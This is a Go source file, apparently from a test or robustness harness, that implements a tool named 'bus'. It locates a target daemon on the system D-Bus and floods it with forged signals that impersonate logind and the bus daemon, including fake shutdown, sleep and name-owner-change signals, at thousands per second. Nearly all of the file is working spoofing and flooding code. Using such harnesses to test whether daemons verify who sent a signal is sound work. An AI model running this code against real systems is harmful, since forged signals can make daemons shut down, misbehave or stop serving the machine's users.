package hostile

import (
	"context"
	"errors"
	"flag"
	"fmt"
	"io"
	"os"
	"strings"
	"time"

	"github.com/godbus/dbus/v5"
)

// bus sends forged signals to a daemon at the system bus, several kinds in turn:
//
//	bus [--rate SIGNALS] NAME
//
// NAME is the daemon's, as /proc/PID/comm has it; the rate is for a second. When it ends, it prints how many were sent.
func bus(ctx context.Context, args []string, out io.Writer, ready func()) error {
	flags := flag.NewFlagSet("bus", flag.ContinueOnError)
	rate := flags.Int("rate", 4000, "")
	if err := parse(flags, args); err != nil {
		return err
	}
	if flags.NArg() != 1 {
		return errors.New("bus: name the daemon")
	}
	conn, err := dbus.ConnectSystemBus(dbus.WithContext(ctx))
	if err != nil {
		return fmt.Errorf("connect to the bus: %w", err)
	}
	defer conn.Close()
	sent := 0
	defer func() { fmt.Fprintf(out, "%d signals\n", sent) }()
	const perSecond = 100 // bursts
	tick := time.NewTicker(time.Second / perSecond)
	defer tick.Stop()
	var to string
	for i := 0; ; i++ {
		if i%perSecond == 0 { // the daemon may have been started again
			if name := find(conn, flags.Arg(0)); name != "" {
				to = name
			}
			if to == "" && i == 0 {
				return fmt.Errorf("bus: %s has no connection", flags.Arg(0))
			}
		}
		for range *rate / perSecond {
			conn.Send(forged(sent, to), nil)
			sent++
		}
		if i == 0 {
			ready()
		}
		select {
		case <-ctx.Done():
			return nil
		case <-conn.Context().Done():
			return errors.New("bus: the connection was closed")
		case <-tick.C:
		}
	}
}

// find is the unique name of a daemon's connection, "" where it has none.
func find(conn *dbus.Conn, comm string) string {
	var names []string
	if err := conn.BusObject().Call("org.freedesktop.DBus.ListNames", 0).Store(&names); err != nil {
		return ""
	}
	for _, name := range names {
		var pid uint32
		if !strings.HasPrefix(name, ":") ||
			conn.BusObject().Call("org.freedesktop.DBus.GetConnectionUnixProcessID", 0, name).Store(&pid) != nil {
			continue
		}
		is, err := os.ReadFile(fmt.Sprintf("/proc/%d/comm", pid))
		if err == nil && strings.TrimSpace(string(is)) == comm {
			return name
		}
	}
	return ""
}

// forged is the n-th signal. Whoever believes the sender's word shuts down, reads properties, or loses logind.
func forged(n int, to string) *dbus.Message {
	const logind, manager = dbus.ObjectPath("/org/freedesktop/login1"), "org.freedesktop.login1.Manager"
	kinds := []struct {
		path          dbus.ObjectPath
		iface, member string
		body          []any
	}{
		{logind, manager, "PrepareForShutdown", []any{true}},
		{logind, manager, "PrepareForShutdown", []any{false}},
		{logind, manager, "PrepareForShutdownWithMetadata", []any{true, map[string]dbus.Variant{}}},
		{logind, manager, "PrepareForSleep", []any{true}},
		{"/org/freedesktop/DBus", "org.freedesktop.DBus", "NameOwnerChanged",
			[]any{"org.freedesktop.login1", ":1.1", ""}},
		{"/org/freedesktop/DBus", "org.freedesktop.DBus", "NameOwnerChanged",
			[]any{"org.freedesktop.login1", "", ":1.9"}},
		{logind, "org.freedesktop.DBus.Properties", "PropertiesChanged",
			[]any{manager, map[string]dbus.Variant{"InhibitDelayMaxUSec": dbus.MakeVariant(uint64(1))}, []string{}}},
	}
	k := kinds[n%len(kinds)]
	return &dbus.Message{
		Type: dbus.TypeSignal,
		Headers: map[dbus.HeaderField]dbus.Variant{
			dbus.FieldDestination: dbus.MakeVariant(to),
			dbus.FieldPath:        dbus.MakeVariant(k.path),
			dbus.FieldInterface:   dbus.MakeVariant(k.iface),
			dbus.FieldMember:      dbus.MakeVariant(k.member),
			dbus.FieldSignature:   dbus.MakeVariant(dbus.SignatureOf(k.body...)),
		},
		Body: k.body,
	}
}
